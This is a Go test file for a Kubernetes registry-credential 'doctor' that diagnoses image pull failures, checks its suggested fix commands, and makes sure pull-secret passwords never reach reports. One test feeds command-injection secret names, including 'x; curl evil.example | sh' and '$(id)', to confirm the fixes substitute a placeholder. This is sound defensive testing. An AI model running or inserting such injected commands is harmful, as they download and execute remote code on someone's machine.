package doctor

import (
	"context"
	"errors"
	"slices"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/client/fake"
	"sigs.k8s.io/controller-runtime/pkg/client/interceptor"

	"regcred.dev/regcred/api/v1alpha1"
	"regcred.dev/regcred/internal/credential"
	"regcred.dev/regcred/internal/kubeletmsg"
	"regcred.dev/regcred/internal/nodecreds"
)

var t0 = time.Date(2026, 12, 1, 12, 0, 0, 0, time.UTC)

const unauthorized = `Failed to pull image "reg.example/app:1": failed to resolve reference "reg.example/app:1": pulling from host reg.example failed with status code [manifests 1]: 401 Unauthorized`

// fixture is a cluster with one namespace "team", a default
// ServiceAccount, a Deployment's Pod waiting on reg.example/app:1 with the
// kubelet's 401, and a ClusterRegistryCredential "robot" for reg.example
// whose Secret regcred-robot is in the namespace, made before the Pod.
type fixture struct {
	s    *Snapshot
	pod  *corev1.Pod
	cred *v1alpha1.ClusterRegistryCredential
	// extra are more ClusterRegistryCredentials.
	extra []*v1alpha1.ClusterRegistryCredential
}

func newFixture() *fixture {
	f := &fixture{}
	f.pod = &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Namespace: "team", Name: "web-1", UID: "pod-uid", CreationTimestamp: metav1.NewTime(t0),
			OwnerReferences: []metav1.OwnerReference{{Kind: "ReplicaSet", Name: "web-5d9c", UID: "rs-uid", Controller: ptr.To(true)}}},
		Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "app", Image: "reg.example/app:1"}}},
		Status: corev1.PodStatus{Phase: corev1.PodPending, ContainerStatuses: []corev1.ContainerStatus{{Name: "app", Image: "reg.example/app:1",
			State: corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{Reason: kubeletmsg.WaitingImagePullBackOff,
				Message: `Back-off pulling image "reg.example/app:1": ErrImagePull: 401 Unauthorized`}}}}},
	}
	f.cred = &v1alpha1.ClusterRegistryCredential{ObjectMeta: metav1.ObjectMeta{Name: "robot", CreationTimestamp: metav1.NewTime(t0.Add(-time.Hour))}}
	f.cred.Spec.Registries = []string{"reg.example"}
	f.cred.Spec.Source.SecretRef = &v1alpha1.SecretReference{Name: "robot-source"}
	f.cred.Status.Conditions = []metav1.Condition{{Type: v1alpha1.ConditionReady, Status: metav1.ConditionTrue, Reason: v1alpha1.ReasonSynced}}
	synced := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: "team", Name: "regcred-robot", CreationTimestamp: metav1.NewTime(t0.Add(-time.Hour)),
		Annotations: map[string]string{credential.AnnotationCredential: "ClusterRegistryCredential/robot"}},
		Type: corev1.SecretTypeDockerConfigJson, Data: map[string][]byte{corev1.DockerConfigJsonKey: []byte(`{"auths":{"reg.example":{"username":"u","password":"s3cr3t-value"}}}`)}}
	f.s = &Snapshot{Now: t0.Add(time.Minute), RegcredNamespace: "regcred-system", RegcredInstalled: true, SecretsReadable: true,
		Pods:            []*corev1.Pod{f.pod},
		Events:          map[types.UID][]corev1.Event{"pod-uid": {{Reason: kubeletmsg.EventFailed, Message: unauthorized, LastTimestamp: metav1.NewTime(t0)}}},
		Namespaces:      map[string]*corev1.Namespace{"team": {ObjectMeta: metav1.ObjectMeta{Name: "team"}}},
		ServiceAccounts: map[string]*corev1.ServiceAccount{"team/default": {ObjectMeta: metav1.ObjectMeta{Namespace: "team", Name: "default"}}},
		Secrets:         map[string]*corev1.Secret{"team/regcred-robot": synced},
		Webhook:         &Webhook{Configuration: "regcred", FailurePolicy: "Ignore"},
		Workloads:       map[types.UID]string{"rs-uid": "deployment/web"},
	}
	return f
}

func (f *fixture) diagnose(t *testing.T) Finding {
	t.Helper()
	f.s.Credentials = []*credential.Credential{credential.FromCluster(f.cred)}
	for _, c := range f.extra {
		f.s.Credentials = append(f.s.Credentials, credential.FromCluster(c))
	}
	r := Diagnose(f.s, "cluster")
	if len(r.Findings) != 1 || r.PodsFailing != 1 || r.PodsChecked != 1 {
		t.Fatalf("report %+v, want one finding", r)
	}
	return r.Findings[0]
}

func TestDiagnose(t *testing.T) {
	for _, tc := range []struct {
		name      string
		change    func(*fixture)
		cause     kubeletmsg.Cause
		diagnosis Diagnosis
		fix       string
	}{
		{"webhook not called", func(*fixture) {}, kubeletmsg.Unauthorized, DiagWebhookNotCalled, "kubectl -n team rollout restart deployment/web"},
		{"only the event tells", func(f *fixture) {
			// Right after the first failed pull the status still says
			// ContainerCreating.
			f.pod.Status.ContainerStatuses[0].State.Waiting = &corev1.ContainerStateWaiting{Reason: "ContainerCreating"}
		}, kubeletmsg.Unauthorized, DiagWebhookNotCalled, "kubectl -n team rollout restart deployment/web"},
		{"webhook not registered", func(f *fixture) { f.s.Webhook = nil }, kubeletmsg.Unauthorized, DiagWebhookNotRegistered, "webhook.enabled=true"},
		{"pod predates the secret", func(f *fixture) {
			f.s.Secrets["team/regcred-robot"].CreationTimestamp = metav1.NewTime(t0.Add(time.Second))
		}, kubeletmsg.Unauthorized, DiagPodPredatesCredential, "rollout restart deployment/web"},
		{"service account patched later", func(f *fixture) {
			f.s.ServiceAccounts["team/default"].ImagePullSecrets = []corev1.LocalObjectReference{{Name: "regcred-robot"}}
		}, kubeletmsg.Unauthorized, DiagServiceAccountLater, "rollout restart deployment/web"},
		{"injection disabled", func(f *fixture) { f.cred.Spec.PodInjection.Enabled = ptr.To(false) }, kubeletmsg.Unauthorized, DiagInjectionDisabled,
			`kubectl patch clusterregistrycredential robot --type merge -p '{"spec":{"podInjection":{"enabled":true}}}'`},
		{"namespace opts out", func(f *fixture) { f.s.Namespaces["team"].Labels = map[string]string{credential.LabelInject: "false"} }, kubeletmsg.Unauthorized, DiagInjectionOptedOut,
			"kubectl label namespace team regcred.dev/inject-"},
		{"secret foreign", func(f *fixture) { f.s.Secrets["team/regcred-robot"].Annotations = nil }, kubeletmsg.Unauthorized, DiagSecretForeign, "kubectl -n team delete secret regcred-robot"},
		{"secret not synced", func(f *fixture) { delete(f.s.Secrets, "team/regcred-robot") }, kubeletmsg.Unauthorized, DiagSecretMissing, "status.failures"},
		{"source invalid", func(f *fixture) {
			delete(f.s.Secrets, "team/regcred-robot")
			f.cred.Status.Conditions[0].Status, f.cred.Status.Conditions[0].Reason = metav1.ConditionFalse, v1alpha1.ReasonSourceNotFound
		}, kubeletmsg.Unauthorized, DiagSourceInvalid, "kubectl describe clusterregistrycredential robot"},
		{"namespace not selected", func(f *fixture) {
			f.cred.Spec.NamespaceSelector = &metav1.LabelSelector{MatchLabels: map[string]string{"pulls": "reg", "env": "prod"}}
		}, kubeletmsg.Unauthorized, DiagNamespaceNotSelected, "kubectl label namespace team env=prod pulls=reg"},
		{"always excluded", func(f *fixture) {
			f.pod.Namespace = "kube-system"
			f.s.Namespaces["kube-system"] = &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "kube-system"}}
		}, kubeletmsg.Unauthorized, DiagNamespaceExcluded, "RegistryCredential"},
		{"token expired", func(f *fixture) {
			f.pod.Spec.ImagePullSecrets = []corev1.LocalObjectReference{{Name: "regcred-robot"}}
			f.cred.Spec.Source = v1alpha1.CredentialSource{ECR: &v1alpha1.ECRSource{Region: "eu-west-1"}}
			f.cred.Status.Token = &v1alpha1.TokenStatus{ExpiresAt: ptr.To(metav1.NewTime(t0))}
		}, kubeletmsg.TokenExpired, DiagTokenExpired, "kubectl describe clusterregistrycredential robot"},
		{"credential rejected", func(f *fixture) {
			f.pod.Spec.ImagePullSecrets = []corev1.LocalObjectReference{{Name: "regcred-robot"}}
		}, kubeletmsg.Unauthorized, DiagCredentialRejected, "regcred secret create robot-source -n regcred-system --server reg.example"},
		{"denied", func(f *fixture) {
			f.pod.Spec.ImagePullSecrets = []corev1.LocalObjectReference{{Name: "regcred-robot"}}
			f.s.Events["pod-uid"][0].Message = strings.Replace(unauthorized, "401 Unauthorized", "403 Forbidden", 1)
		}, kubeletmsg.Denied, DiagCredentialRejected, "regcred secret create robot-source"},
		{"never pull", func(f *fixture) {
			f.pod.Status.ContainerStatuses[0].State.Waiting = &corev1.ContainerStateWaiting{Reason: kubeletmsg.WaitingErrImageNeverPull,
				Message: `Container image "reg.example/app:1" is not present with pull policy of Never`}
		}, kubeletmsg.NeverPull, DiagNeverPull, "imagePullPolicy"},
		{"no credential", func(f *fixture) { f.cred.Spec.Registries = []string{"other.example"} }, kubeletmsg.Unauthorized, DiagNoCredential,
			"regcred secret create reg-example-pull -n regcred-system --server reg.example"},
		{"bare pod", func(f *fixture) { f.pod.OwnerReferences = nil }, kubeletmsg.Unauthorized, DiagWebhookNotCalled,
			"kubectl -n team get pod web-1 -o yaml | kubectl replace --force -f -"},
		{"secrets unreadable", func(f *fixture) {
			f.s.SecretsReadable = false
			f.pod.Spec.ImagePullSecrets = []corev1.LocalObjectReference{{Name: "regcred-robot"}}
		}, kubeletmsg.Unauthorized, DiagWebhookNotCalled, "rollout restart"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture()
			tc.change(f)
			got := f.diagnose(t)
			if got.Cause != tc.cause || got.Diagnosis != tc.diagnosis {
				t.Errorf("cause %s, diagnosis %s, want %s, %s (%s)", got.Cause, got.Diagnosis, tc.cause, tc.diagnosis, got.Explanation)
			}
			if !strings.Contains(got.Fix, tc.fix) {
				t.Errorf("fix %q does not contain %q", got.Fix, tc.fix)
			}
			if got.KubeletMessage != f.s.Events["pod-uid"][0].Message && got.Cause != kubeletmsg.NeverPull {
				t.Errorf("kubelet message %q, want the Event's", got.KubeletMessage)
			}
			var b strings.Builder
			if err := WriteText(&b, &Report{Findings: []Finding{got}, PodsFailing: 1, PodsChecked: 1}); err != nil {
				t.Fatal(err)
			}
			if strings.Contains(b.String(), "s3cr3t-value") || strings.Contains(got.Explanation+got.Fix, "s3cr3t-value") {
				t.Error("the report holds the password")
			}
		})
	}
}

// TestHealthyPods: Running Pods, Pods still creating and Pods that failed
// for other reasons are not findings.
func TestHealthyPods(t *testing.T) {
	f := newFixture()
	f.pod.Status.ContainerStatuses[0].State = corev1.ContainerState{Running: &corev1.ContainerStateRunning{}}
	f.pod.Status.Phase = corev1.PodRunning
	crash := f.pod.DeepCopy()
	crash.UID, crash.Name = "crash", "crash"
	crash.Status.Phase = corev1.PodRunning
	crash.Status.ContainerStatuses[0].State = corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{Reason: "CrashLoopBackOff"}}
	f.s.Pods = append(f.s.Pods, crash)
	// Still creating, with no word of a failed pull.
	creating := f.pod.DeepCopy()
	creating.UID, creating.Name = "creating", "creating"
	creating.Status.Phase = corev1.PodPending
	creating.Status.ContainerStatuses[0].State = corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{Reason: "ContainerCreating"}}
	// Pending on another container, past the pull an old Event failed.
	pulled := f.pod.DeepCopy()
	pulled.UID, pulled.Name = "pulled", "pulled"
	pulled.Status.Phase = corev1.PodPending
	f.s.Events["pulled"] = f.s.Events["pod-uid"]
	// Pulled after an old failure, now waiting on a missing ConfigMap.
	configless := f.pod.DeepCopy()
	configless.UID, configless.Name = "configless", "configless"
	configless.Status.Phase = corev1.PodPending
	configless.Status.ContainerStatuses[0].State = corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{Reason: "CreateContainerConfigError"}}
	f.s.Events["configless"] = f.s.Events["pod-uid"]
	f.s.Pods = append(f.s.Pods, creating, pulled, configless)
	r := Diagnose(f.s, "cluster")
	if len(r.Findings) != 0 || r.PodsChecked != 5 || r.PodsFailing != 0 {
		t.Errorf("report %+v, want no findings", r)
	}
}

// TestImageVolumeAndMalformed: the kubelet names an image volume's image
// in the waiting message of the container that mounts it; a malformed pull
// Secret shows as the parse error in the waiting reason.
func TestImageVolumeAndMalformed(t *testing.T) {
	f := newFixture()
	f.pod.Spec.Volumes = []corev1.Volume{{Name: "model", VolumeSource: corev1.VolumeSource{Image: &corev1.ImageVolumeSource{Reference: "reg.example/model:2"}}}}
	f.pod.Status.ContainerStatuses[0].State.Waiting.Message = `Back-off pulling image "reg.example/model:2": ErrImagePull: not found`
	f.s.Events = nil
	got := f.diagnose(t)
	if got.Kind != "imageVolume" || got.Name != "model" || got.Image != "reg.example/model:2" {
		t.Errorf("finding %s %s %s, want image volume model", got.Kind, got.Name, got.Image)
	}

	f = newFixture()
	f.pod.Spec.ImagePullSecrets = []corev1.LocalObjectReference{{Name: "broken"}}
	f.s.Secrets["team/broken"] = &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: "team", Name: "broken"}, Type: corev1.SecretTypeDockerConfigJson,
		Data: map[string][]byte{corev1.DockerConfigJsonKey: []byte(`{"auths":{"reg.example":{"auth":"!!"}}}`)}}
	f.pod.Status.ContainerStatuses[0].State.Waiting = &corev1.ContainerStateWaiting{Reason: "illegal base64 data at input byte 0"}
	f.s.Events = nil
	got = f.diagnose(t)
	if got.Cause != kubeletmsg.MalformedSecret || got.Diagnosis != DiagMalformedSecret || got.PullSecrets[0].State != "malformed" {
		t.Errorf("finding %+v, want the malformed Secret", got)
	}
}

// FuzzDiagnose: whatever the kubelet wrote, whatever a pull Secret holds and
// whatever the image, Diagnose does not panic, names a diagnosis and a fix
// for each finding, and never repeats the Secret's password.
func FuzzDiagnose(f *testing.F) {
	f.Add("ImagePullBackOff", unauthorized, "reg.example/app:1", []byte(`{"auths":{"reg.example":{"username":"u","password":"s3cr3t-value"}}}`))
	f.Add("illegal base64 data", "", "reg.example/App:1", []byte(`{"auths":{"reg.example":{"auth":"!!"}}}`))
	f.Add("ErrImagePull", `Failed to pull image "x": 429 Too Many Requests`, "", []byte(`{}`))
	f.Fuzz(func(t *testing.T, reason, message, image string, secret []byte) {
		fx := newFixture()
		fx.pod.Spec.Containers[0].Image = image
		fx.pod.Spec.ImagePullSecrets = []corev1.LocalObjectReference{{Name: "regcred-robot"}, {Name: "missing"}}
		fx.s.Secrets["team/regcred-robot"].Data[corev1.DockerConfigJsonKey] = secret
		fx.pod.Status.ContainerStatuses[0].State.Waiting = &corev1.ContainerStateWaiting{Reason: reason, Message: message}
		fx.s.Events["pod-uid"][0].Message = message
		fx.s.Credentials = []*credential.Credential{credential.FromCluster(fx.cred)}
		r := Diagnose(fx.s, "cluster")
		for _, got := range r.Findings {
			if got.Diagnosis == "" || got.Fix == "" || got.Explanation == "" {
				t.Fatalf("finding without a diagnosis, fix or explanation: %+v", got)
			}
			if strings.Contains(got.Explanation+got.Fix, "s3cr3t-value") && !strings.Contains(message+image+reason, "s3cr3t-value") {
				t.Fatalf("the password reached the finding: %+v", got)
			}
		}
	})
}

// TestFixNeverCarriesAnInvalidSecretName: the API server does not check
// the names a Pod lists in imagePullSecrets, and a fix is a command a
// person copies: a name that is not a Secret's is a placeholder there.
func TestFixNeverCarriesAnInvalidSecretName(t *testing.T) {
	for _, tc := range []struct{ name, want string }{
		{"pull-token", "regcred secret create pull-token -n team"},
		{"x; curl evil.example | sh", "regcred secret create SECRET-NAME -n team"},
		{"$(id)", "regcred secret create SECRET-NAME -n team"},
	} {
		f := newFixture()
		f.cred.Spec.Registries = []string{"other.example"}
		f.pod.Spec.ImagePullSecrets = []corev1.LocalObjectReference{{Name: tc.name}}
		got := f.diagnose(t)
		if got.Diagnosis != DiagMissingSecret || !strings.Contains(got.Fix, tc.want) {
			t.Errorf("pull Secret %q: %s, fix %q; want %s with %q", tc.name, got.Diagnosis, got.Fix, DiagMissingSecret, tc.want)
		}
	}
}

// nodeFixture is the fixture with the credential delivered to nodes only
// (spec.delivery Node, Ready NodeDelivery): no Secret in the namespace, the
// Pod on node-1, the manager serving the broker, and no request from any
// node in the credential's status.
func nodeFixture() *fixture {
	f := newFixture()
	f.cred.Spec.Delivery = v1alpha1.DeliveryNode
	f.cred.Status.Conditions[0].Reason = v1alpha1.ReasonNodeDelivery
	f.cred.Status.Delivery = &v1alpha1.DeliveryStatus{Mode: v1alpha1.DeliveryNode}
	delete(f.s.Secrets, "team/regcred-robot")
	f.pod.Spec.NodeName = "node-1"
	f.s.NodeCredentials = BrokerPublished
	return f
}

// servedTo records the broker's answer to node at t in the credential's
// status, as the replicas' flush does.
func servedTo(f *fixture, node string, t time.Time) {
	d := f.cred.Status.Delivery
	d.Served++
	d.LastServedAt = ptr.To(metav1.NewTime(t))
	d.Nodes = append(d.Nodes, v1alpha1.NodeRequests{Name: node, LastRequestAt: metav1.NewTime(t)})
}

// TestDiagnoseNodeDelivery: a credential delivered to nodes has no Secret,
// so the Secret rules stay quiet; the node rules say why the kubelet got
// nothing from regcred's broker, or that the registry refused what it got.
func TestDiagnoseNodeDelivery(t *testing.T) {
	for _, tc := range []struct {
		name      string
		change    func(*fixture)
		cause     kubeletmsg.Cause
		diagnosis Diagnosis
		fix       string
		// explains are fragments of the explanation.
		explains []string
	}{
		{"secret rules stay quiet", func(f *fixture) {
			// Each of these would conclude a Secret rule: no Secret, the
			// Pod lists one that is gone, no webhook, injection off, the
			// Pod made before the credential.
			f.pod.Spec.ImagePullSecrets = []corev1.LocalObjectReference{{Name: "regcred-robot"}}
			f.s.Webhook = nil
			f.cred.Spec.PodInjection.Enabled = ptr.To(false)
			f.cred.CreationTimestamp = metav1.NewTime(t0.Add(time.Hour))
		}, kubeletmsg.Unauthorized, DiagBrokerNotAsked, "regcred kubelet-config --match-image reg.example",
			[]string{"kubelet on node node-1 did not ask regcred's broker", "regcred broker at https://…: connection refused"}},
		{"both still has a secret", func(f *fixture) { f.cred.Spec.Delivery = v1alpha1.DeliveryBoth }, kubeletmsg.Unauthorized, DiagSecretMissing, "status.failures", nil},
		{"namespace excluded", func(f *fixture) { f.cred.Spec.ExcludeNamespaces = []string{"team"} }, kubeletmsg.Unauthorized, DiagNamespaceExcluded,
			"kubectl edit clusterregistrycredential robot  # remove team from spec.excludeNamespaces", []string{"regcred's broker serves it to no Pod there"}},
		{"namespace not selected", func(f *fixture) {
			f.cred.Spec.NamespaceSelector = &metav1.LabelSelector{MatchLabels: map[string]string{"pulls": "reg"}}
			f.cred.Status.Delivery.LastRefusal = "namespace team is not selected"
			f.cred.Status.Delivery.LastRefusedAt = ptr.To(metav1.NewTime(t0))
		}, kubeletmsg.Unauthorized, DiagNamespaceNotSelected, "kubectl label namespace team pulls=reg  # the kubelet's next pull attempt gets it",
			[]string{"ClusterRegistryCredential robot", `the broker's last refusal: "namespace team is not selected"`}},
		{"service account not selected", func(f *fixture) {
			f.cred.Spec.ServiceAccounts = v1alpha1.ServiceAccountSelection{Mode: v1alpha1.ServiceAccountsSelector,
				Selector: &metav1.LabelSelector{MatchLabels: map[string]string{"pulls": "reg"}}}
			f.cred.Status.Delivery.Refused = 3
			f.cred.Status.Delivery.LastRefusal = "ServiceAccount team/default is not selected by spec.serviceAccounts\x1b[2J"
			f.cred.Status.Delivery.LastRefusedAt = ptr.To(metav1.NewTime(t0))
		}, kubeletmsg.Unauthorized, DiagServiceAccountNotSelected, "kubectl -n team label serviceaccount default pulls=reg",
			[]string{"ClusterRegistryCredential robot", "does not select ServiceAccount team/default",
				`the broker's last refusal: "ServiceAccount team/default is not selected by spec.serviceAccounts"`}},
		{"service account mode default", func(f *fixture) {
			f.pod.Spec.ServiceAccountName = "builder"
			f.s.ServiceAccounts["team/builder"] = &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: "team", Name: "builder"}}
			f.cred.Spec.ServiceAccounts.Mode = v1alpha1.ServiceAccountsDefault
			// An old refusal, of another ServiceAccount: not quoted.
			f.cred.Status.Delivery.LastRefusal = "ServiceAccount team/other is not selected by spec.serviceAccounts"
		}, kubeletmsg.Unauthorized, DiagServiceAccountNotSelected, "kubectl edit clusterregistrycredential robot  # make spec.serviceAccounts select ServiceAccount team/builder",
			[]string{"(mode Default) does not select ServiceAccount team/builder"}},
		{"not ready", func(f *fixture) {
			f.cred.Status.Conditions[0].Status, f.cred.Status.Conditions[0].Reason = metav1.ConditionFalse, v1alpha1.ReasonSourceNotFound
		}, kubeletmsg.Unauthorized, DiagSourceInvalid, "kubectl describe clusterregistrycredential robot", []string{"regcred's broker cannot render it"}},
		{"manager does not serve the broker", func(f *fixture) { f.s.NodeCredentials = BrokerAbsent }, kubeletmsg.Unauthorized, DiagNodeCredentialsOff,
			"--set nodeCredentials.enabled=true", []string{"ConfigMap regcred-node-credentials does not exist in regcred-system"}},
		{"node asked before the failure only", func(f *fixture) { servedTo(f, "node-1", t0.Add(-5*time.Minute)) }, kubeletmsg.Unauthorized, DiagBrokerNotAsked,
			"journalctl -u kubelet | grep regcred", []string{"it last asked at 2026-12-01T11:55:00Z"}},
		{"served to another node", func(f *fixture) { servedTo(f, "node-2", t0) }, kubeletmsg.Unauthorized, DiagBrokerNotAsked, "regcred kubelet-config", nil},
		{"failed a moment ago", func(f *fixture) { f.s.Now = t0.Add(10 * time.Second) }, kubeletmsg.Unauthorized, DiagBrokerNotAsked, "regcred kubelet-config",
			[]string{"run the doctor again"}},
		{"served, registry refused", func(f *fixture) {
			servedTo(f, "node-1", t0.Add(-10*time.Second))
			f.cred.Status.Conditions = append(f.cred.Status.Conditions, metav1.Condition{Type: v1alpha1.ConditionVerified, Status: metav1.ConditionFalse, Reason: "Unauthorized"})
		}, kubeletmsg.Unauthorized, DiagCredentialRejected, "regcred secret create robot-source -n regcred-system --server reg.example",
			[]string{"served by regcred's broker to node node-1 at 2026-12-01T11:59:50Z", "its Verified condition says Unauthorized too"}},
		{"served, token expired", func(f *fixture) {
			servedTo(f, "node-1", t0)
			f.cred.Spec.Source = v1alpha1.CredentialSource{ECR: &v1alpha1.ECRSource{Region: "eu-west-1"}}
			f.cred.Status.Token = &v1alpha1.TokenStatus{ExpiresAt: ptr.To(metav1.NewTime(t0))}
		}, kubeletmsg.TokenExpired, DiagTokenExpired, "kubectl describe clusterregistrycredential robot", nil},
		{"served, not found", func(f *fixture) {
			servedTo(f, "node-1", t0)
			f.s.Events["pod-uid"][0].Message = strings.Replace(unauthorized, "401 Unauthorized", "404 Not Found", 1)
		}, kubeletmsg.NotFound, DiagImageNotFound, "fix the image name or tag", nil},
		{"a secret credential beside one for another namespace", func(f *fixture) {
			f.cred.Spec.NamespaceSelector = &metav1.LabelSelector{MatchLabels: map[string]string{"pulls": "reg"}}
			other := &v1alpha1.ClusterRegistryCredential{ObjectMeta: metav1.ObjectMeta{Name: "secrets", CreationTimestamp: metav1.NewTime(t0.Add(-time.Hour))}}
			other.Spec.Registries = []string{"reg.example"}
			other.Spec.Source.SecretRef = &v1alpha1.SecretReference{Name: "secrets-source"}
			f.extra = append(f.extra, other)
		}, kubeletmsg.Unauthorized, DiagSecretMissing, "kubectl get clusterregistrycredential secrets", nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := nodeFixture()
			tc.change(f)
			got := f.diagnose(t)
			if got.Cause != tc.cause || got.Diagnosis != tc.diagnosis {
				t.Errorf("cause %s, diagnosis %s, want %s, %s (%s)", got.Cause, got.Diagnosis, tc.cause, tc.diagnosis, got.Explanation)
			}
			if !strings.Contains(got.Fix, tc.fix) {
				t.Errorf("fix %q does not contain %q", got.Fix, tc.fix)
			}
			for _, want := range tc.explains {
				if !strings.Contains(got.Explanation, want) {
					t.Errorf("explanation %q does not contain %q", got.Explanation, want)
				}
			}
			if Sanitize(got.Explanation) != got.Explanation {
				t.Errorf("explanation %q is not printable", got.Explanation)
			}
			for _, c := range got.Credentials {
				if c.Name == "robot" && (c.Secret != "" || c.InPod) && f.cred.Spec.Delivery == v1alpha1.DeliveryNode {
					t.Errorf("credential state %+v: a Node credential has no Secret", c)
				}
			}
		})
	}
}

// TestQuotedRefusalIsBounded: the broker's refusal is regcred's own text,
// still bounded when quoted.
func TestQuotedRefusalIsBounded(t *testing.T) {
	f := nodeFixture()
	f.cred.Spec.ServiceAccounts = v1alpha1.ServiceAccountSelection{Mode: v1alpha1.ServiceAccountsSelector, Selector: &metav1.LabelSelector{MatchLabels: map[string]string{"a": "b"}}}
	f.cred.Status.Delivery.LastRefusal = "ServiceAccount team/default " + strings.Repeat("x", 5000)
	got := f.diagnose(t)
	if got.Diagnosis != DiagServiceAccountNotSelected || len(got.Explanation) > 600 || !strings.Contains(got.Explanation, "…") {
		t.Errorf("%s, explanation of %d bytes: %.300s", got.Diagnosis, len(got.Explanation), got.Explanation)
	}
}

// TestReadNodeCredentials: the doctor reads the broker's ConfigMap
// only when a credential delivers to nodes; a caller who may not read it
// gets a note, not an error.
func TestReadNodeCredentials(t *testing.T) {
	cm := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: "regcred-system", Name: nodecreds.ConfigMapName}}
	forbidden := func(ctx context.Context, c client.WithWatch, key client.ObjectKey, obj client.Object, opts ...client.GetOption) error {
		if _, ok := obj.(*corev1.ConfigMap); ok {
			return apierrors.NewForbidden(schema.GroupResource{Resource: "configmaps"}, key.Name, errors.New("no"))
		}
		return c.Get(ctx, key, obj, opts...)
	}
	for _, tc := range []struct {
		name     string
		delivery v1alpha1.DeliveryMode
		objects  []client.Object
		get      func(context.Context, client.WithWatch, client.ObjectKey, client.Object, ...client.GetOption) error
		want     BrokerState
		note     bool
	}{
		{"published", v1alpha1.DeliveryNode, []client.Object{cm}, nil, BrokerPublished, false},
		{"absent", v1alpha1.DeliveryBoth, nil, nil, BrokerAbsent, false},
		{"forbidden", v1alpha1.DeliveryNode, nil, forbidden, BrokerUnknown, true},
		{"not needed", v1alpha1.DeliverySecrets, []client.Object{cm}, nil, BrokerUnknown, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture()
			f.cred.Spec.Delivery = tc.delivery
			scheme, err := credential.Scheme()
			if err != nil {
				t.Fatal(err)
			}
			c := fake.NewClientBuilder().WithScheme(scheme).WithObjects(tc.objects...).WithInterceptorFuncs(interceptor.Funcs{Get: tc.get}).Build()
			s := &Snapshot{RegcredNamespace: "regcred-system", Credentials: []*credential.Credential{credential.FromCluster(f.cred)}}
			if err := s.readNodeCredentials(context.Background(), c); err != nil {
				t.Fatal(err)
			}
			if s.NodeCredentials != tc.want {
				t.Errorf("NodeCredentials %q, want %q", s.NodeCredentials, tc.want)
			}
			if hasNote := slices.ContainsFunc(s.Notes, func(n string) bool { return strings.Contains(n, nodecreds.ConfigMapName) }); hasNote != tc.note {
				t.Errorf("notes %q, want a note about the ConfigMap: %v", s.Notes, tc.note)
			}
		})
	}
}
